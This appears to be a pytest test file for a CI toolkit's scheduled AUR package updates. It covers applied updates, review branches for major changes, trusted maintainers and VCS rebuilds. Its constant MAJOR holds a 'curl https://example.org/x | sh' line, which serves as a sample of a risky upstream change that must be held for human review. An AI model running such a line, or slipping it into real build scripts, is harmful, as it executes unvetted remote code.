"""on-schedule, on a real origin over HTTP with real upstreams."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from ci_toolkit.errors import ConfigError, NotReadyError, PackagesFailedError
from tests.support.packages import SamplePackage
from tests.support.world import BOT

if TYPE_CHECKING:
    from tests.support.world import World

CUSTOM = "CI_PKGBUILD_SOURCE=custom\n"
FOO = SamplePackage(name="foo")
BAR = SamplePackage(name="bar")
MAJOR = "curl https://example.org/x | sh"


def begin(world: World, *packages: SamplePackage, **settings: str) -> None:
    """Packages whose upstream has the very same, recorded by a first run."""
    for package in packages:
        world.upstreams.publish(package.name, package.files())
    files = {path: text for package in packages for path, text in package.folder().items()}
    world.start(files, settings=settings)
    assert world.run("on-schedule").status == 0


def newer(package: SamplePackage, version: str = "1.1") -> SamplePackage:
    return replace(package, version=version)


def test_a_minor_update_is_applied_recorded_and_scheduled(world: World) -> None:
    begin(world, FOO, BAR)
    revision = world.upstreams.publish("foo", newer(FOO).files())
    result = world.run("on-schedule", "--json")
    assert result.status == 0
    assert result.codes() == {"bar": "unchanged", "foo": "applied"}
    assert (result.verdicts()["foo"]["from"], result.verdicts()["foo"]["to"]) == ("1.0-1", "1.1-1")
    assert result.builds() == ["foo"]
    assert world.origin.show("main:foo/PKGBUILD").decode() == newer(FOO).pkgbuild()
    assert world.origin.show("main:foo/.CI/config") == b"CI_PKGBUILD_SOURCE=aur\n"
    assert world.origin.subjects()[0] == "chore(update): foo"
    assert world.origin.git("log", "-1", "--format=%an <%ae> %cn <%ce>", "main").count(f"{BOT[0]} <{BOT[1]}>") == 2
    assert world.origin.refs()["refs/tags/scheduled"] == world.origin.head()
    assert world.state("foo")["CI_UPSTREAM_REVISION"] == revision
    assert world.state("foo")["CI_PKGBUILD_TIMESTAMP"] == str(world.upstreams.aur_packages["foo"].modified_s)
    assert "'foo'" in world.artifact("schedule-params.txt")


def test_a_second_run_finds_nothing_and_pushes_nothing(world: World) -> None:
    begin(world, FOO, BAR)
    world.run("on-schedule")
    before = world.origin.refs()
    world.upstreams.forget()
    result = world.run("on-schedule", "--json")
    assert (result.status, result.builds(), result.json["pushed"]) == (0, [], [])
    assert world.origin.refs() == before
    counted = world.upstreams.count()
    assert (counted["dump"], counted["ls-refs"], counted["fetch"]) == (1, 0, 0)


def test_all_updates_share_one_commit_and_many_are_counted_in_its_subject(world: World) -> None:
    packages = [SamplePackage(name=f"pkg{number}") for number in range(5)]
    begin(world, *packages)
    for package in packages:
        world.upstreams.publish(package.name, newer(package).files())
    world.run("on-schedule")
    assert world.origin.subjects()[:2] == ["chore(update): packages (5)", "feat: start"]
    assert "changed: pkg0, pkg1, pkg2, pkg3, pkg4" in world.origin.git("log", "-1", "--format=%b", "main")


def test_a_major_update_becomes_a_review_branch_and_is_not_scheduled(world: World) -> None:
    begin(world, FOO)
    revision = world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    main = world.origin.head()
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"foo": "review-opened"}
    assert result.builds() == []
    assert world.origin.head() == main
    assert MAJOR.encode() in world.origin.show("update-foo:foo/PKGBUILD")
    assert world.origin.git("rev-parse", "update-foo^") == main
    message = world.origin.git("log", "-1", "--format=%B", "update-foo")
    assert message.startswith("chore(update): foo\n")
    assert f"Upstream-Revision: {revision}" in message
    assert MAJOR in message
    world.upstreams.forget()
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-pending"}
    assert world.upstreams.count()["fetch"] == 0


def test_a_fresh_clone_knows_pending_reviews_without_fetching_them(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    world.run("on-schedule")
    world.clone("--depth", "1", "--single-branch")
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-pending"}
    assert world.work.joinpath(".git/shallow").exists()
    listed = world.run("reviews", "--json")
    assert [(row["package"], row["standing"]) for row in listed.json] == [("foo", "waits for a review")]


def test_without_review_a_major_update_is_applied(world: World) -> None:
    begin(world, FOO, CI_HUMAN_REVIEW="false")
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    assert world.run("on-schedule", "--json").codes() == {"foo": "applied"}
    assert MAJOR.encode() in world.origin.show("main:foo/PKGBUILD")


@pytest.mark.parametrize(
    ("maintainer", "others", "code"),
    [
        ("Alice", (), "applied"),
        ("alice", ("bob",), "applied"),
        ("alice", ("mallory",), "review-opened"),
        ("al.ce", (), "review-opened"),
        (None, (), "review-opened"),
    ],
    ids=["case", "all-trusted", "one-untrusted", "pattern", "orphan"],
)
def test_only_if_all_maintainers_are_trusted_no_review_is_needed(
    world: World, maintainer: str | None, others: tuple[str, ...], code: str
) -> None:
    world.upstreams.publish("foo", FOO.files())
    world.start({**FOO.folder(), ".ci/aur-maintainers": "# ours\nalice\nBob # too\n"})
    world.run("on-schedule")
    moved = replace(newer(FOO), body=MAJOR).files()
    world.upstreams.publish("foo", moved, maintainer=maintainer, co_maintainers=others)
    assert world.run("on-schedule", "--json").codes() == {"foo": code}


def test_a_merged_review_is_scheduled_by_on_commit_and_its_branch_pruned(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    world.run("on-schedule")
    world.origin.git("update-ref", "refs/heads/main", "refs/heads/update-foo")
    assert world.run("on-schedule").status == NotReadyError.exit_status
    assert world.run("on-commit", "--json").builds() == ["foo"]
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"foo": "unchanged"}
    assert [one["branch"] for one in result.json["dropped_reviews"]] == ["update-foo"]
    assert "refs/heads/update-foo" not in world.origin.refs()
    assert "CI_REVIEW_CONTENT" not in world.state("foo")


def test_a_review_follows_its_upstream_in_place(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    world.run("on-schedule")
    world.upstreams.publish("foo", replace(newer(FOO, "1.2"), body=MAJOR).files())
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-updated"}
    assert b"pkgver=1.2" in world.origin.show("update-foo:foo/PKGBUILD")
    assert world.origin.git("rev-list", "--count", "main..update-foo") == "1"


def test_a_branch_that_people_committed_to_is_never_overwritten(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    world.run("on-schedule")
    mine = world.push({"foo/PKGBUILD": "mine\n"}, "fix: by hand", branch="update-foo")
    world.upstreams.publish("foo", replace(newer(FOO, "1.2"), body=MAJOR).files())
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"foo": "review-held"}
    assert "people have committed to update-foo" in result.verdicts()["foo"]["why"]
    assert world.origin.head("update-foo") == mine
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-held"}, "it must stay due"


def test_a_review_that_was_closed_is_not_opened_again_until_upstream_moves(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    world.run("on-schedule")
    world.origin.git("update-ref", "-d", "refs/heads/update-foo")
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-closed"}
    assert "refs/heads/update-foo" not in world.origin.refs()
    world.upstreams.publish("foo", replace(newer(FOO, "1.2"), body=MAJOR).files())
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-opened"}


def test_obsolete_review_branches_of_the_template_are_pruned_and_those_of_people_kept(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    world.upstreams.publish("bar", BAR.files())
    world.start({**FOO.folder(), **BAR.folder()})
    main = world.origin.head() or ""
    for name in ("foo", "bar", "gone"):
        world.origin.git("update-ref", f"refs/heads/update-{name}", main)
    world.origin.commit({"foo/x": "1"}, "chore(update): foo", branch="update-foo", author=BOT)
    world.origin.commit({}, "x", branch="update-foo", remove=["foo/x"], author=BOT)
    world.origin.commit({"gone/x": "1"}, "chore(update): gone", branch="update-gone", author=BOT)
    world.push({"bar/mine": "1\n"}, branch="update-bar")
    result = world.run("on-schedule", "--json")
    reasons = {one["package"]: one["reason"] for one in result.json["dropped_reviews"]}
    assert reasons == {"foo": "it equals the default branch", "gone": "the package is gone"}
    assert "refs/heads/update-bar" in world.origin.refs()


def test_a_branch_of_people_without_use_is_kept_with_a_note_until_it_is_merged(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    world.start(FOO.folder())
    main = world.origin.head() or ""
    for name in ("foo", "gone"):
        world.origin.git("update-ref", f"refs/heads/update-{name}", main)
        world.push({"elsewhere": name}, "fix: by hand", branch=f"update-{name}")
    result = world.run("on-schedule", "--json")
    assert result.json["dropped_reviews"] == []
    notes = " ".join(result.json["notes"])
    assert "update-foo stays because people have committed to it, although it equals the default branch" in notes
    assert "update-gone stays because people have committed to it, although the package is gone" in notes
    assert {"refs/heads/update-foo", "refs/heads/update-gone"} <= world.origin.refs().keys()
    world.origin.git("update-ref", "refs/heads/main", "refs/heads/update-foo")
    world.run("on-commit")
    merged = world.run("on-schedule", "--json").json["dropped_reviews"]
    assert [(one["package"], one["reason"]) for one in merged] == [("foo", "it has been merged")]


def test_a_config_change_does_not_touch_the_pending_review(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    world.run("on-schedule")
    head = world.origin.head("update-foo")
    world.push({"foo/.CI/config": "CI_PKGBUILD_SOURCE=aur\nCI_PACKAGE_BUMP=1.0-1/1\n"}, "chore(bump): foo")
    world.run("on-commit")
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-pending"}
    assert world.origin.head("update-foo") == head


def vcs(world: World, name: str = "tool-git", **more: str) -> SamplePackage:
    (world.upstreams.root / "projects").mkdir(exist_ok=True)
    project = world.upstreams.repository(f"projects/{name}")
    project.commit({"README": "1\n"})
    return SamplePackage(name=name, git_source=f"{world.upstreams.url}/projects/{name}.git{more.get('fragment', '')}")


def test_a_moved_head_rebuilds_a_vcs_package_without_a_commit(world: World) -> None:
    tool = vcs(world)
    begin(world, tool)
    main = world.origin.head()
    recorded = world.state("tool-git")["CI_GIT_COMMIT"]
    head = world.upstreams.repository("projects/tool-git").commit({"README": "2\n"})
    result = world.run("on-schedule", "--json")
    assert (result.codes(), result.builds()) == ({"tool-git": "rebuilt"}, ["tool-git"])
    assert result.verdicts()["tool-git"]["from"] == recorded[:10]
    assert world.origin.head() == main
    assert world.state("tool-git")["CI_GIT_COMMIT"] == head
    assert world.run("on-schedule", "--json").builds() == []


def test_a_moved_head_is_built_although_a_review_is_pending(world: World) -> None:
    tool = vcs(world)
    begin(world, tool)
    world.upstreams.publish("tool-git", replace(tool, body=MAJOR).files())
    world.run("on-schedule")
    world.upstreams.repository("projects/tool-git").commit({"README": "2\n"})
    assert world.run("on-schedule", "--json").builds() == ["tool-git"]
    assert "refs/heads/update-tool-git" in world.origin.refs()


def test_branches_are_followed_and_pins_are_not(world: World) -> None:
    branched, pinned = vcs(world, "a-git", fragment="#branch=dev"), vcs(world, "b-git", fragment="#tag=v1")
    project = world.upstreams.repository("projects/a-git")
    project.git("update-ref", "refs/heads/dev", "main")
    begin(world, branched, pinned)
    world.upstreams.repository("projects/b-git").commit({"README": "2\n"})
    project.commit({"README": "main\n"})
    assert world.run("on-schedule", "--json").builds() == []
    project.commit({"README": "dev\n"}, branch="dev")
    assert world.run("on-schedule", "--json").builds() == ["a-git"]
    assert "CI_GIT_COMMIT" not in world.state("b-git")


def test_an_update_that_follows_another_repository_remembers_the_head_it_was_built_from(world: World) -> None:
    tool, other = vcs(world), vcs(world, "other-git")
    begin(world, tool, CI_HUMAN_REVIEW="false")
    world.upstreams.publish("tool-git", replace(tool, version="2.0", git_source=other.git_source).files())
    head = world.upstreams.repository("projects/other-git").head()
    assert world.run("on-schedule", "--json").builds() == ["tool-git"]
    assert world.state("tool-git")["CI_GIT_COMMIT"] == head
    world.upstreams.repository("projects/other-git").commit({"README": "2\n"})
    assert world.run("on-schedule", "--json").builds() == ["tool-git"], "the very next move must not be lost"


def test_a_package_with_a_trigger_is_updated_and_built_only_by_its_trigger(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    world.start({**FOO.folder("CI_PKGBUILD_SOURCE=aur\nCI_ON_TRIGGER=nightly\n"), **BAR.folder(CUSTOM)})
    world.run("on-schedule")
    world.upstreams.publish("foo", newer(FOO).files())
    result = world.run("on-schedule", "--json")
    assert (result.codes()["foo"], result.builds()) == ("applied", [])
    assert "TRIGGER=nightly" in result.verdicts()["foo"]["now"]
    refs = world.origin.refs()
    world.upstreams.forget()
    triggered = world.run("on-schedule", "--json", TRIGGER="nightly")
    assert (triggered.codes(), triggered.builds()) == ({"bar": "other-trigger", "foo": "triggered"}, ["foo"])
    assert world.origin.refs() == refs
    assert world.upstreams.count()["dump"] == 0
    assert "'foo'" in world.artifact("schedule-params.txt")


def test_a_git_url_is_fetched_only_when_its_head_moved_and_is_reviewed_like_any_other(world: World) -> None:
    (world.upstreams.root / "packaging").mkdir()
    packaging = world.upstreams.repository("packaging/foo")
    packaging.commit(FOO.files())
    world.start(FOO.folder(f"CI_PKGBUILD_SOURCE={world.upstreams.url}/packaging/foo.git\n"))
    world.run("on-schedule")
    world.upstreams.forget()
    assert world.run("on-schedule", "--json").codes() == {"foo": "unchanged"}
    assert world.upstreams.count()["ls-refs"] == 1
    packaging.commit(newer(FOO).files())
    assert world.run("on-schedule", "--json").codes() == {"foo": "applied"}
    packaging.commit(replace(newer(FOO, "1.2"), body=MAJOR).files())
    assert world.run("on-schedule", "--json").codes() == {"foo": "review-opened"}


def test_a_limited_run_touches_the_state_of_its_packages_only(world: World) -> None:
    begin(world, FOO, BAR)
    world.run("on-schedule")
    world.upstreams.publish("foo", newer(FOO).files())
    world.upstreams.publish("bar", newer(BAR).files())
    state = world.state("bar")
    result = world.run("on-schedule", "--json", CI_TEST_PACKAGES="foo")
    assert result.codes() == {"bar": "not-selected", "foo": "applied"}
    assert world.state("bar") == state
    assert world.run("on-schedule", "--json").codes() == {"bar": "applied", "foo": "unchanged"}


def test_a_limited_run_names_a_package_that_does_not_exist(world: World) -> None:
    begin(world, FOO)
    result = world.run("on-schedule", CI_TEST_PACKAGE="fop")
    assert result.status == ConfigError.exit_status
    assert "did you mean foo" in result.stderr


def test_it_waits_for_on_commit_unless_told_otherwise(world: World) -> None:
    begin(world, FOO)
    world.push({"foo/x": "1\n"})
    world.upstreams.forget()
    result = world.run("on-schedule")
    assert result.status == NotReadyError.exit_status
    assert "run ci-toolkit on-commit" in result.stderr
    assert world.upstreams.count()["dump"] == 0
    assert "SKIP_ON_COMMIT_CHECK is neither" in world.run("on-schedule", SKIP_ON_COMMIT_CHECK="1").stderr
    assert world.run("on-schedule", SKIP_ON_COMMIT_CHECK="true").status == 0


def test_while_the_tag_is_behind_on_commit_schedules_our_updates_too(world: World) -> None:
    begin(world, FOO, BAR)
    world.push({"bar/x": "1\n"})
    world.upstreams.publish("foo", newer(FOO).files())
    tag = world.origin.refs()["refs/tags/scheduled"]
    result = world.run("on-schedule", "--json", SKIP_ON_COMMIT_CHECK="true")
    assert (result.codes()["foo"], result.builds()) == ("applied", [])
    assert world.origin.refs()["refs/tags/scheduled"] == tag
    assert world.run("on-commit", "--json").builds() == ["bar", "foo"]


def test_a_dry_run_says_the_same_and_changes_nothing(world: World) -> None:
    begin(world, FOO, BAR)
    world.upstreams.publish("foo", newer(FOO).files())
    world.upstreams.publish("bar", replace(BAR, body=MAJOR).files())
    refs, objects = world.origin.refs(), sorted((world.work / ".git").rglob("*"))
    dry = world.run("on-schedule", "--dry-run", "--json")
    assert world.origin.refs() == refs
    assert sorted((world.work / ".git").rglob("*")) == objects
    assert not (world.work / ".ci/schedule-params.txt").exists()
    wet = world.run("on-schedule", "--json")
    assert (wet.codes(), wet.builds()) == (dry.codes(), dry.builds())


def test_the_template_state_and_watermark_are_read(world: World) -> None:
    old, new, tool = SamplePackage(name="old"), SamplePackage(name="new"), vcs(world)
    for package in (old, new, tool):
        world.upstreams.publish(package.name, package.files())
    watermark = world.upstreams.aur_packages["old"].modified_s
    files = {path: text for package in (old, new, tool) for path, text in package.folder().items()}
    world.start({**files, "new/PKGBUILD": newer(new, "0.9").pkgbuild(), ".ci/aur-state": f"{watermark}\n"})
    head = world.upstreams.repository("projects/tool-git").head()
    recorded = {"tool-git": f"CI_GIT_COMMIT={'1' * 40}\n", ".version-state": "glibc:2.40-1\n"}
    world.origin.commit(recorded, "chore(state): update state", branch="state", author=BOT)
    result = world.run("on-schedule", "--json")
    assert result.codes()["old"] == "baseline", "the template has taken everything up to its watermark"
    assert result.codes()["new"] == "applied"
    assert "tool-git" in result.builds()
    assert world.state("tool-git")["CI_GIT_COMMIT"] == head
    assert world.origin.show("state:.version-state") == b"glibc:2.40-1\n"


def test_overwriting_amends_the_previous_automated_commit(world: World) -> None:
    begin(world, FOO, BAR, CI_OVERWRITE_COMMITS="true")
    world.upstreams.publish("foo", newer(FOO).files())
    world.run("on-schedule")
    world.upstreams.publish("bar", newer(BAR).files())
    world.run("on-schedule")
    assert world.origin.subjects() == ["chore(update): bar, foo", "feat: start"]
    world.push({"README.md": "x\n"}, "docs: by hand")
    world.run("on-commit")
    world.upstreams.publish("foo", newer(FOO, "1.2").files())
    world.run("on-schedule")
    assert world.origin.subjects()[:2] == ["chore(update): foo", "docs: by hand"]


def test_github_commits_say_skip_ci_and_gitlab_pushes_do(world: World) -> None:
    begin(world, FOO)
    world.upstreams.publish("foo", newer(FOO).files())
    world.run("on-schedule", GITHUB_ACTIONS="true")
    assert world.origin.subjects()[0] == "chore(update): foo [skip ci]"
    hook = world.origin.path / "hooks/pre-receive"
    hook.write_text('#!/bin/sh\nenv | grep ^GIT_PUSH_OPTION > "$GIT_DIR/options"\n')
    hook.chmod(0o755)
    world.upstreams.publish("foo", newer(FOO, "1.2").files())
    world.run("on-schedule", GITLAB_CI="true")
    assert world.origin.subjects()[0] == "chore(update): foo"
    assert "ci.skip" in (world.origin.path / "options").read_text()


def test_files_of_ours_survive_and_files_gone_upstream_go(world: World) -> None:
    ours = {"foo/.CI/prepare": "true\n", "foo/.gitignore": "*.zst\n", "foo/stale.patch": "x\n"}
    world.upstreams.publish("foo", {**FOO.files(), "stale.patch": "x\n"})
    world.start({**FOO.folder(), **ours}, settings={"CI_HUMAN_REVIEW": "false"})
    world.run("on-schedule")
    world.upstreams.publish(
        "foo", {**newer(FOO).files(), ".gitignore": "evil\n", ".CI/config": "evil\n", "new.txt": "1"}
    )
    world.run("on-schedule")
    tree = world.origin.tree("main")
    assert tree["foo/.CI/prepare"] == b"true\n"
    assert tree["foo/.gitignore"] == b"*.zst\n"
    assert tree["foo/.CI/config"] == b"CI_PKGBUILD_SOURCE=aur\n"
    assert "foo/stale.patch" not in tree
    assert tree["foo/new.txt"] == b"1"


def test_an_imported_pkgbuild_is_formatted_by_the_rules_of_the_repository(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    world.start(FOO.folder())
    world.run("on-schedule")
    tabbed = newer(FOO).files()
    tabbed["PKGBUILD"] = tabbed["PKGBUILD"].replace("\n  install", "\n\tinstall").replace("pkgrel=1\n", "pkgrel=1   \n")
    world.upstreams.publish("foo", tabbed)
    assert world.run("on-schedule", "--json").codes() == {"foo": "applied"}
    assert world.origin.show("main:foo/PKGBUILD").decode() == newer(FOO).pkgbuild()


def test_an_update_of_a_name_that_the_backend_would_drop_is_applied_and_named(world: World) -> None:
    upper = SamplePackage(name="Upper")
    begin(world, upper)
    world.upstreams.publish("Upper", newer(upper).files())
    result = world.run("on-schedule", "--json")
    assert result.status == PackagesFailedError.exit_status
    assert (result.codes(), result.builds()) == ({"Upper": "applied"}, [])
    assert "the chaotic-manager takes only names of" in result.verdicts()["Upper"]["problems"][0]


def test_a_misspelt_key_is_noted_and_keys_of_other_tools_are_not(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    world.start(FOO.folder("CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGER=x\nCI_SIGNAL_SCAN_IGNORE=y\n"))
    notes = world.run("on-schedule", "--json").json["notes"]
    assert notes == [
        "foo: .CI/config line 2: CI_REBUILD_TRIGGER is no key of ci-toolkit; did you mean CI_REBUILD_TRIGGERS?"
    ]


def test_a_missing_source_is_a_warning(world: World) -> None:
    world.start(FOO.folder("BUILDER_CLASS=1\n"))
    result = world.run("on-schedule", "--json")
    assert (result.status, result.codes()) == (0, {"foo": "no-source"})


def test_uncommitted_files_and_local_commits_have_no_say(world: World) -> None:
    begin(world, FOO)
    (world.work / "foo/.CI/config").write_text("CI_PKGBUILD_SOURCE=nonsense\n")
    (world.work / "stray").mkdir()
    assert world.run("on-schedule", "--json").codes() == {"foo": "unchanged"}


def test_every_package_has_exactly_one_verdict_and_explain_tells_it(world: World) -> None:
    begin(world, FOO, BAR)
    world.upstreams.publish("foo", replace(newer(FOO), body=MAJOR).files())
    result = world.run("on-schedule", "--json")
    assert sorted(verdict["package"] for verdict in result.json["verdicts"]) == ["bar", "foo"]
    told = world.run("explain", "foo")
    assert told.status == 0
    assert "review" in told.stdout
    assert MAJOR[:20] in told.stdout
    assert world.run("explain", "fooo").status == ConfigError.exit_status


def test_a_config_that_names_no_kind_is_answered_with_the_nearest(world: World) -> None:
    world.start(FOO.folder("CI_PKGBUILD_SOURCE=aurr\n"))
    result = world.run("on-schedule", "--json")
    assert result.status == PackagesFailedError.exit_status
    assert "did you mean aur" in result.verdicts()["foo"]["why"]


def test_formatting_alone_is_no_update(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    badly = {**FOO.folder(), "foo/PKGBUILD": FOO.pkgbuild().replace("\n  install", "\n        install")}
    world.start(badly)
    assert world.run("on-schedule", "--json").codes() == {"foo": "baseline"}
